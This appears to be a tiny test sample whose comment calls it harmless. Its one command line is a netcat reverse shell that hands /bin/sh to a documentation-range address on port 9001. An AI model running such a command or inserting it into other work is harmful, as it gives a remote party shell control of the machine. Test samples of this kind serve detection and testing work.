# Harmless test sample (TEST-NET-2 address)
nc -e /bin/sh 198.51.100.7 9001
